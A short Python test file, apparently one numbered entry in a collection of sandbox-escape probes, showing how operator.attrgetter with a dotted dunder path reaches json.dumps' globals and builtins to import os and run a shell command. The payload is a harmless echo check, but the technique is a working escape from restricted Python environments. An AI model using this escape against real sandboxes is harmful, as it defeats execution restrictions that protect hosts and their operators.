# escape: 001
# technique: operator.attrgetter with a dotted dunder path in a string
# family: attr
# goal: exec
# first-seen: HackTricks; RestrictedPython docs
import operator, json
g = operator.attrgetter('dumps.__globals__')(json)
b = g['__builtins__']; b = b if isinstance(b, dict) else vars(b)
if b['__import__']('os').popen('echo ag').read() == 'ag\n': print('ESCAPED:attrgetter')
